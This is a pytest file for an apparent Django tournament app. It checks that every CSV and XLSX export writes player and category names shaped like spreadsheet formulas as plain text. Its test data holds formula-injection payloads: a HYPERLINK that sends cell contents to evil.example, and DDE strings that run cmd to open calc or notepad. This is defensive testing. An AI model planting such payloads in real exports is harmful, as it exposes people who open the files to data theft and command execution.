"""Issue 19, "Exports never carry a formula": every CSV and XLSX the product offers, run over
players (and a category) named like formulas, carries each name as text.

The exports are found, not listed by hand: every URL whose route can end in ``csv`` or
``xlsx`` (from the resolver) and every management command with a ``--format`` that offers
``csv`` or ``xlsx``. Each must have a way to run it in ``URL_EXPORTS`` / ``COMMAND_EXPORTS``, so
a new export fails here until it is run over the hostile names. And no module but
``events/spreadsheet.py`` may write CSV or XLSX itself.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command, get_commands, load_command_class
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from events.models import Event
from prizes.services import prize_category_save, prize_sheet_approve
from tests.conftest import REPO, manage_process
from tests.prizes.conftest import ADDENDUM_FUND, gct_event

# OWASP's examples, one per character a spreadsheet starts a formula with (names are stored
# stripped, so the tab and carriage return cases are in tests/events/test_spreadsheet.py).
HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?d="&A1,"Claim prize")',
    2: "+1+cmd|' /C calc'!A0",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "=1+1",
    6: "=cmd|' /C notepad'!'A1'",
}
CATEGORY = '=HYPERLINK("http://evil.example/","Best woman")'
FORMULA_START = tuple("=+-@\t\r")
OUR_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(/[0-9]+)?( -?[0-9]+(\.[0-9]+)?(/[0-9]+)?)*")

pytestmark = pytest.mark.django_db(transaction=True)  # the standings process must see the rows


# -- Finding the exports --------------------------------------------------------------------


def _spreadsheet_routes(patterns: list[Any], prefix: str, namespace: str) -> Iterator[str]:
    """``namespace:name`` of every URL whose path can end in .csv or .xlsx."""
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            inner = ":".join(n for n in (namespace, pattern.namespace or "") if n)
            yield from _spreadsheet_routes(pattern.url_patterns, route, inner)
        elif isinstance(pattern, URLPattern):
            # A converter that names formats (not one that takes any text, like <path:...>).
            formats = [
                c.regex
                for c in getattr(pattern.pattern, "converters", {}).values()
                if not re.fullmatch(c.regex, "html")
            ]
            offers = any(re.fullmatch(regex, f) for regex in formats for f in ("csv", "xlsx"))
            if offers or re.search(r"(csv|xlsx)", route):
                yield ":".join(n for n in (namespace, pattern.name or route) if n)


def _spreadsheet_commands() -> dict[str, list[str]]:
    """Our commands with a ``--format`` choice of csv or xlsx, and those choices."""
    found = {}
    for name, app in get_commands().items():
        if not (REPO / app.replace(".", "/")).is_dir():
            continue  # Django's and third-party commands
        parser = load_command_class(app, name).create_parser("manage.py", name)
        for action in parser._actions:
            if "--format" in action.option_strings and action.choices:
                formats = [f for f in action.choices if f in ("csv", "xlsx")]
                if formats:
                    found[name] = formats
    return found


# -- Running them -----------------------------------------------------------------------------


# Who downloads it: the approved sheet is public (anonymous), the draft is the director's.
URL_EXPORTS = {"prizes:download": "anonymous", "prizes:draft_download": "director"}


def _command_file(tmp_path: Path, command: str, slug: str, fmt: str) -> list[bytes]:
    target = tmp_path / f"{command}.{fmt}"
    call_command(command, slug, "--format", fmt, "--output", str(target))
    return [target.read_bytes()]


def _standings_both_paths(tmp_path: Path, command: str, slug: str, fmt: str) -> list[bytes]:
    """The Django command and the process that answers without Django (standings.fastpath)."""
    out = io.StringIO()
    call_command(command, slug, "--format", fmt, stdout=out)
    process = manage_process(command, slug, "--format", fmt)
    assert process.returncode == 0, process.stderr
    return [out.getvalue().encode(), process.stdout.encode()]


COMMAND_EXPORTS = {
    "prizes": _command_file,
    "standings": _standings_both_paths,
}


# -- Checking what they wrote --------------------------------------------------------------------


def check_csv(body: bytes, where: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert OUR_NUMBER.fullmatch(cell), f"{where}: a formula in a cell: {cell!r}"
    for start_no, name in HOSTILE.items():
        assert "'" + name in cells, f"{where}: player {start_no} is missing or not neutralised"


def check_xlsx(body: bytes, where: str, names: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member), f"{where}: {member} has a formula"
    texts = []
    workbook = load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Prize sheet", "Payouts with categories"], where
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, f"{where}: {cell.coordinate} {cell.value!r}"
    for name in names:
        assert name in texts, f"{where}: {name!r} is not a text cell as typed"


def check(body: bytes, fmt: str, where: str) -> None:
    if fmt == "csv":
        check_csv(body, where)
    else:
        check_xlsx(body, where, list(HOSTILE.values()))


@pytest.fixture
def hostile_event(tmp_path: Path, director: Any) -> Event:
    """A decided GCT event whose players (and a category prize) are named like formulas, its
    prize sheet approved (the public sheet.csv needs an approval). The category adds the
    XLSX's second sheet, its payouts."""
    event = gct_event(tmp_path, "formulas", ADDENDUM_FUND, director=director, names=dict(HOSTILE))
    prize_category_save(
        event=event,
        code="women",
        name=CATEGORY,
        conditions=[{"field": "sex", "op": "eq", "value": "w"}],
        amounts=["1000"],
        user=director,
    )
    prize_sheet_approve(event=event, user=director)
    return event


def test_every_export_is_run_here() -> None:
    routes = set(_spreadsheet_routes(get_resolver().url_patterns, "", ""))
    assert routes == set(URL_EXPORTS), "run every CSV/XLSX URL over the hostile names"
    assert set(_spreadsheet_commands()) == set(COMMAND_EXPORTS), "and every such command"


def test_every_export_writes_formula_like_names_as_text(
    hostile_event: Event, director: Any, tmp_path: Path
) -> None:
    slug = hostile_event.slug
    clients = {"anonymous": Client(), "director": Client()}
    clients["director"].force_login(director)
    for name, who in URL_EXPORTS.items():
        for fmt in ("csv", "xlsx"):
            response = clients[who].get(reverse(name, kwargs={"slug": slug, "fmt": fmt}))
            assert response.status_code == 200, (name, fmt, response.status_code)
            check(response.content, fmt, f"{name} {fmt}")
    for command, formats in _spreadsheet_commands().items():
        for fmt in formats:
            for body in COMMAND_EXPORTS[command](tmp_path, command, slug, fmt):
                check(body, fmt, f"manage.py {command} --format {fmt}")


WRITERS = {"events/spreadsheet.py"}


def _worksheets(tree: ast.AST) -> set[str]:
    """Names bound to an openpyxl worksheet: ``x = workbook.active`` or ``.create_sheet(...)``."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            value, target = node.value, node.targets[0]
            if isinstance(value, ast.Call):
                value = value.func
            sheet = isinstance(value, ast.Attribute) and value.attr in ("active", "create_sheet")
            if sheet and isinstance(target, ast.Name):
                names.add(target.id)
    return names


def _writes_itself(node: ast.AST, worksheets: set[str]) -> str | None:
    """``csv.writer``/``csv.DictWriter``, or a worksheet row or cell written directly."""
    if (
        isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and (node.value.id, node.attr) in (("csv", "writer"), ("csv", "DictWriter"))
    ):
        return f"csv.{node.attr}"
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        receiver = node.func.value
        if not (isinstance(receiver, ast.Name) and receiver.id in worksheets):
            return None
        empty_row = not node.args or (isinstance(node.args[0], ast.List) and not node.args[0].elts)
        if node.func.attr == "append" and not empty_row:
            return f"{receiver.id}.append"
        if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
            return f"{receiver.id}.cell(value=...)"
    return None


def test_no_module_but_the_helper_writes_csv_or_xlsx() -> None:
    """A writer that bypasses events.spreadsheet would not be neutralised: CSV only through
    ``csv_text``; in a module that uses openpyxl, rows only through ``xlsx_append``."""
    offenders = []
    for path in sorted(REPO.glob("**/*.py")):
        relative = str(path.relative_to(REPO))
        if relative.startswith((".venv", "tests/")) or relative in WRITERS:
            continue
        tree = ast.parse(path.read_text())
        worksheets = _worksheets(tree)
        for node in ast.walk(tree):
            found = _writes_itself(node, worksheets)
            if found:
                offenders.append(f"{relative}:{getattr(node, 'lineno', '?')} {found}")
    assert not offenders, f"write through events.spreadsheet: {offenders}"
